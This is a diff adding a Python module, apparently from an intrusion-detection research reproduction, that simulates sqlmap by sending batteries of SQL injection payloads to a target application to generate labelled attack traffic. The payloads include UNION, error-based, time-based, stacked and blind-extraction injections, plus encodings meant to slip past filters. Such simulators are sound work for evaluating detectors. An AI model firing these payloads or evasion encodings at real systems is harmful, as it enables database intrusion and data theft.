@@ -1,0 +1,202 @@
+"""SQLmap simulator.
+
+Reproduces SQLmap's probing strategy faithfully enough that the resulting
+trace has SQLmap's *texture*: randomized four-digit boolean pairs
+(``AND 7423=7423``), quote/paren prefix battery, ORDER BY column
+bisection, ``UNION ALL SELECT NULL,...`` sweeps with hex marker strings
+(``0x716b6a7a71`` — sqlmap's ``qkjzq``-style start/end markers), error-based
+``EXTRACTVALUE``/``AND (SELECT ... FROM(SELECT COUNT(*)...))`` probes, and
+``AND SLEEP(5)`` / ``BENCHMARK`` timing probes.  Section III-B: SQLmap
+against the 136-vulnerability application produced "over 7200 attack
+samples"; the simulator lands in the same range (~55 probes per point).
+
+Payloads go out percent-encoded with ``%20`` spaces, the way sqlmap puts
+them on the wire.
+"""
+
+from __future__ import annotations
+
+from repro.http.traffic import Trace
+from repro.http.url import quote
+from repro.scanners.base import ScannerBase
+
+
+class SqlmapSimulator(ScannerBase):
+    """Level-1/risk-1 style sqlmap scan of every injection point.
+
+    Args:
+        app: target application.
+        seed: probe randomization seed.
+        tamper_fraction: fraction of probes sent through one of sqlmap's
+            stock tamper scripts (``space2comment``, ``doubleencode``,
+            ``charunicodeencode``).  Tampered probes survive a full
+            normalization pipeline but slip past single-pass-decode
+            matchers — the behaviour that separates ModSecurity/pSigene
+            from Snort/Bro in Table V.
+    """
+
+    name = "sqlmap"
+
+    def __init__(self, app, seed: int = 0, tamper_fraction: float = 0.12):
+        super().__init__(app, seed)
+        if not 0.0 <= tamper_fraction <= 1.0:
+            raise ValueError("tamper_fraction must be in [0, 1]")
+        self.tamper_fraction = tamper_fraction
+
+    def encode_value(self, value: str) -> str:
+        """sqlmap wire format: percent-encoded specials, %20 spaces."""
+        # sqlmap percent-encodes specials; spaces become %20.
+        return quote(value)
+
+    def _tamper(self, value: str) -> str:
+        """Apply one stock tamper script."""
+        choice = self.random_int(0, 2)
+        if choice == 0:  # space2comment
+            return value.replace(" ", "/**/")
+        if choice == 1:  # doubleencode (the outer quote() adds the 2nd layer)
+            return (
+                value.replace("'", "%27").replace('"', "%22")
+                .replace(" ", "%20")
+            )
+        # charunicodeencode: IIS-style %uXXXX escapes for the break chars
+        return (
+            value.replace("'", "%u0027").replace('"', "%u0022")
+            .replace(";", "%u003b")
+        )
+
+    def send(self, path: str, parameter: str, value: str):
+        """Issue a probe, tampering a configured fraction of them."""
+        if self.rng.random() < self.tamper_fraction:
+            value = self._tamper(value)
+        return super().send(path, parameter, value)
+
+    # -- payload batteries ----------------------------------------------------
+
+    def _marker(self) -> str:
+        """sqlmap-style random hex string marker (e.g. 0x716b6a7a71)."""
+        letters = "abcdefghijklmnopqrstuvwxyz"
+        inner = "".join(
+            letters[self.random_int(0, 25)] for _ in range(3)
+        )
+        text = f"q{inner}q"
+        return "0x" + text.encode().hex()
+
+    def _boolean_battery(self, base: str) -> list[str]:
+        n = self.random_int(1000, 9999)
+        m = n + self.random_int(1, 77)
+        prefixes = ("", "'", "')", "'))", ")")
+        payloads = []
+        for prefix in prefixes:
+            suffix = "-- -" if prefix else ""
+            payloads.append(f"{base}{prefix} AND {n}={n}{suffix}".strip())
+            payloads.append(f"{base}{prefix} AND {n}={m}{suffix}".strip())
+        payloads.append(f"{base}' AND '{n}'='{n}")
+        payloads.append(f"{base}' AND '{n}'='{m}")
+        return payloads
+
+    def _order_by_bisection(self, path: str, parameter: str, base: str) -> None:
+        """Column-count search exactly as sqlmap does: probe, then bisect."""
+        low, high = 1, 10
+        while low < high:
+            mid = (low + high + 1) // 2
+            response = self.send(
+                path, parameter, f"{base}' ORDER BY {mid}-- -"
+            )
+            if "error" in response.body.lower() or response.status >= 500:
+                high = mid - 1
+            else:
+                low = mid
+
+    def _union_battery(self, base: str, columns: int) -> list[str]:
+        marker = self._marker()
+        payloads = []
+        for width in range(max(1, columns - 1), columns + 2):
+            nulls = ",".join(["NULL"] * width)
+            payloads.append(
+                f"{base}' UNION ALL SELECT {nulls}-- -"
+            )
+        cells = ["NULL"] * columns
+        cells[self.random_int(0, max(0, columns - 1))] = (
+            f"CONCAT({marker},IFNULL(CAST(CURRENT_USER() AS CHAR),0x20),"
+            f"{marker})"
+        )
+        payloads.append(f"{base}' UNION ALL SELECT {','.join(cells)}-- -")
+        payloads.append(
+            f"{base}' UNION ALL SELECT {','.join(cells)} FROM "
+            f"INFORMATION_SCHEMA.TABLES-- -"
+        )
+        return payloads
+
+    def _error_battery(self, base: str) -> list[str]:
+        marker = self._marker()
+        n = self.random_int(1000, 9999)
+        return [
+            f"{base}' AND EXTRACTVALUE({n},CONCAT(0x5c,{marker},"
+            f"(SELECT (ELT({n}={n},1))),{marker}))-- -",
+            f"{base}' AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({marker},"
+            f"(SELECT (ELT({n}={n},1))),{marker},FLOOR(RAND(0)*2))x FROM "
+            f"INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- -",
+            f"{base}' AND UPDATEXML({n},CONCAT(0x2e,{marker},"
+            f"(SELECT (ELT({n}={n},1))),{marker}),{n})-- -",
+        ]
+
+    def _time_battery(self, base: str) -> list[str]:
+        n = self.random_int(1000, 9999)
+        return [
+            f"{base}' AND SLEEP(5)-- -",
+            f"{base}' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)-- -",
+            f"{base}' OR SLEEP(5)-- -",
+            f"{base}' AND {n}=BENCHMARK(5000000,MD5(0x41))-- -",
+            f"{base}' RLIKE SLEEP(5)-- -",
+        ]
+
+    def _stacked_battery(self, base: str) -> list[str]:
+        return [
+            f"{base}';SELECT SLEEP(5)-- -",
+            f"{base}';SELECT BENCHMARK(5000000,MD5(0x42))-- -",
+        ]
+
+    def _blind_extraction(self, path: str, parameter: str, base: str) -> None:
+        """Boolean-blind character bisection, sqlmap's exploitation phase.
+
+        Real sqlmap issues hundreds of these once a boolean point confirms;
+        the simulator caps the battery at one bisection of the first
+        character of ``CURRENT_USER()`` plus a couple of length probes.
+        """
+        n = self.random_int(1000, 9999)
+        self.send(path, parameter,
+                  f"{base}' AND LENGTH(CURRENT_USER())>{self.random_int(1, 9)}"
+                  f"-- -")
+        self.send(path, parameter,
+                  f"{base}' AND LENGTH(DATABASE())>{self.random_int(1, 9)}-- -")
+        for position in range(1, 18):
+            mid = self.random_int(48, 122)
+            self.send(
+                path, parameter,
+                f"{base}' AND ORD(MID((SELECT IFNULL(CAST(CURRENT_USER() AS "
+                f"CHAR),0x20)),{position},1))>{mid} AND {n}={n}-- -",
+            )
+
+    # -- scan ----------------------------------------------------------------
+
+    def scan(self) -> Trace:
+        """Run the full adaptive battery against every injection point."""
+        for point in self.app.points:
+            base = str(self.random_int(1, 999))
+            # Heuristic syntax probes first, like sqlmap's parameter check.
+            for probe in ("'", "')", '"', "'\""):
+                self.send(point.path, point.parameter, base + probe)
+            for payload in self._boolean_battery(base):
+                self.send(point.path, point.parameter, payload)
+            self._order_by_bisection(point.path, point.parameter, base)
+            columns = self.app.union_column_count(point.path)
+            for payload in self._union_battery(base, columns):
+                self.send(point.path, point.parameter, payload)
+            for payload in self._error_battery(base):
+                self.send(point.path, point.parameter, payload)
+            for payload in self._time_battery(base):
+                self.send(point.path, point.parameter, payload)
+            for payload in self._stacked_battery(base):
+                self.send(point.path, point.parameter, payload)
+            self._blind_extraction(point.path, point.parameter, base)
+        return self.trace()
